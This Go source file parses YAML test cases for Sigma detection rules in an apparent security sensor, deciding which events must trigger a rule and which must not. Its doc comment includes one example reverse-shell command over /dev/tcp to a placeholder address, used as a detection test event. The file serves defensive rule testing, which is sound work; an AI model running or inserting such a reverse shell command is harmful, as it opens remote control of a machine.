// Package trial plays the test events that stand beside Sigma rules, in folders called
// tests: those for which a rule has to fire, and those for which it must not.
//
//	rule: reverse_shell_dev_tcp       # id, name, title or file; else the name of this file
//	fires:
//	  - name: a shell that talks to an address
//	    event: {kind: exec, process: {exe: /usr/bin/bash, args: [bash, -c, 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1']}}
//	quiet:
//	  - name: a shell that reads a script
//	    event: {kind: exec, process: {exe: /usr/bin/bash, args: [bash, nightly.sh]}}
//
// An event is written as its JSON form (package event); what is left away is filled in
// with something plain. Rules that count get events: in place of event:, each with after:
// (since the first) and, for a row of them, times: and every:. What is not an event of the
// sensor is record: with source: and fields:. In a row, %n in a text is the number of the
// repetition.
package trial

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"path"
	"strings"
	"time"

	"github.com/goccy/go-yaml"

	"github.com/tocsin-ir/tocsin/sensor/detect/sigma"
	"github.com/tocsin-ir/tocsin/sensor/event"
)

// Trial is the test events of one rule.
type Trial struct {
	File  string
	Rule  string // as Set.Find takes it
	Cases []Case
}

// Case is one thing that happens, and whether the rule has to fire.
type Case struct {
	Name  string
	Fires bool
	steps []step
}

// step is one event or record of a case.
type step struct {
	after  time.Duration
	event  *event.Event
	record sigma.Record
}

// begin is when cases happen; no rule should care.
var begin = time.Date(2026, 11, 25, 10, 0, 0, 0, time.UTC)

const (
	maxFile  = 256 << 10 // bytes
	maxSteps = 20_000    // of one case
)

// Read is every trial below a folder. The error joins what is wrong with each file; the
// others are returned all the same.
func Read(fsys fs.FS) ([]Trial, error) {
	var trials []Trial
	var wrong []error
	err := fs.WalkDir(fsys, ".", func(name string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if ext := path.Ext(name); d.IsDir() || path.Base(path.Dir(name)) != "tests" || ext != ".yml" && ext != ".yaml" {
			return nil
		}
		text, err := fs.ReadFile(fsys, name)
		if err != nil {
			return err
		}
		t, err := Parse(name, text)
		if err != nil {
			wrong = append(wrong, err)
			return nil
		}
		trials = append(trials, t)
		return nil
	})
	if err != nil {
		return nil, fmt.Errorf("read trials: %w", err)
	}
	return trials, errors.Join(wrong...)
}

type file struct {
	Rule  string    `yaml:"rule"`
	Fires []oneCase `yaml:"fires"`
	Quiet []oneCase `yaml:"quiet"`
}

type oneCase struct {
	Name   string    `yaml:"name"`
	Step   oneStep   `yaml:",inline"`
	Events []oneStep `yaml:"events"`
}

type oneStep struct {
	After  string         `yaml:"after"`
	Times  int            `yaml:"times"`
	Every  string         `yaml:"every"`
	Event  map[string]any `yaml:"event"`
	Record *oneRecord     `yaml:"record"`
}

type oneRecord struct {
	Source struct {
		Category string `yaml:"category"`
		Product  string `yaml:"product"`
		Service  string `yaml:"service"`
	} `yaml:"source"`
	Fields map[string]any `yaml:"fields"`
}

// Parse reads one file of trials. Whatever is not known is an error.
func Parse(name string, text []byte) (Trial, error) {
	if len(text) > maxFile {
		return Trial{}, fmt.Errorf("%s: more than %d bytes", name, maxFile)
	}
	var f file
	if err := decode(text, &f); err != nil {
		return Trial{}, fmt.Errorf("%s: %w", name, err)
	}
	t := Trial{File: name, Rule: f.Rule}
	if t.Rule == "" {
		t.Rule = strings.TrimSuffix(path.Base(name), path.Ext(name))
	}
	for i, list := range [][]oneCase{f.Fires, f.Quiet} {
		for _, c := range list {
			steps, err := c.steps()
			if err != nil {
				return Trial{}, fmt.Errorf("%s: %q: %w", name, c.Name, err)
			}
			t.Cases = append(t.Cases, Case{c.Name, i == 0, steps})
		}
	}
	return t, nil
}

// decode turns a panic of the library into an error, and bounds what would make it slow.
func decode(text []byte, to *file) (err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("cannot be read (%v)", r)
		}
	}()
	for l := range bytes.Lines(text) {
		if bytes.Count(l, []byte("["))+bytes.Count(l, []byte("{")) > 64 || bytes.Count(l, []byte("- ")) > 32 && len(bytes.TrimLeft(l, "- ")) == 0 {
			return errors.New("nested too deep")
		}
	}
	err = yaml.NewDecoder(bytes.NewReader(text), yaml.Strict()).Decode(to)
	var e yaml.Error
	if errors.As(err, &e) {
		if t := e.GetToken(); t != nil && t.Position != nil {
			why, _, _ := strings.Cut(e.GetMessage(), "\n")
			return fmt.Errorf("line %d, column %d: %s", t.Position.Line, t.Position.Column, why)
		}
	}
	return err
}

func (c oneCase) steps() ([]step, error) {
	list := c.Events
	if c.Step.Event != nil || c.Step.Record != nil {
		list = append([]oneStep{c.Step}, list...)
	}
	if len(list) == 0 {
		return nil, errors.New("there is neither event nor record")
	}
	var steps []step
	for _, s := range list {
		more, err := s.row()
		if err != nil {
			return nil, err
		}
		if steps = append(steps, more...); len(steps) > maxSteps {
			return nil, fmt.Errorf("more than %d events", maxSteps)
		}
	}
	return steps, nil
}

// row is a step as often as it is to be repeated.
func (s oneStep) row() ([]step, error) {
	after, err := since(s.After)
	if err != nil {
		return nil, err
	}
	every, err := since(s.Every)
	if err != nil {
		return nil, err
	}
	if s.Times > maxSteps {
		return nil, fmt.Errorf("more than %d events", maxSteps)
	}
	var steps []step
	for n := range max(1, s.Times) {
		one, err := s.once(n)
		if err != nil {
			return nil, err
		}
		one.after = after + time.Duration(n)*every
		if one.event != nil {
			one.event.At = begin.Add(one.after)
		}
		steps = append(steps, one)
	}
	return steps, nil
}

func since(text string) (time.Duration, error) {
	if text == "" {
		return 0, nil
	}
	d, err := time.ParseDuration(text)
	if err != nil || d < 0 {
		return 0, fmt.Errorf("%q is no duration; write it as 10s or 5m", text)
	}
	return d, nil
}

func (s oneStep) once(n int) (step, error) {
	switch {
	case s.Record != nil && s.Event != nil:
		return step{}, errors.New("an event or a record, not both")
	case s.Record != nil:
		of := s.Record.Source
		return step{record: sigma.NewRecord(sigma.LogSource{Category: of.Category, Product: of.Product, Service: of.Service}, s.Record.Fields)}, nil
	case s.Event == nil:
		return step{}, errors.New("there is neither event nor record")
	}
	text, err := json.Marshal(s.Event)
	if err != nil {
		return step{}, fmt.Errorf("read the event: %w", err)
	}
	e, err := Event(bytes.ReplaceAll(text, []byte("%n"), fmt.Append(nil, n)))
	return step{event: &e}, err
}

// Event reads an event from its JSON form, strictly, and fills in what was left away: the
// part that its kind has, process ids, a host.
func Event(text []byte) (event.Event, error) {
	var e event.Event
	d := json.NewDecoder(bytes.NewReader(text))
	d.DisallowUnknownFields()
	if err := d.Decode(&e); err != nil {
		return e, fmt.Errorf("read the event: %w", err)
	}
	if e.Kind == event.Unknown {
		return e, errors.New("the event has no kind, or one that is not known")
	}
	if e.Host == "" {
		e.Host = "host"
	}
	if e.Process.PID == 0 {
		e.Process.PID = 1_000
	}
	if e.Parent.PID == 0 && e.Parent.Exe != "" {
		e.Parent.PID = 999
	}
	if e.Sys != nil && e.Sys.Target.PID == 0 && e.Sys.Target.Exe != "" {
		e.Sys.Target.PID = 998
	}
	if e.Kind == event.Exec && e.Exec == nil {
		e.Exec = &event.ExecOf{}
	}
	return e, nil
}
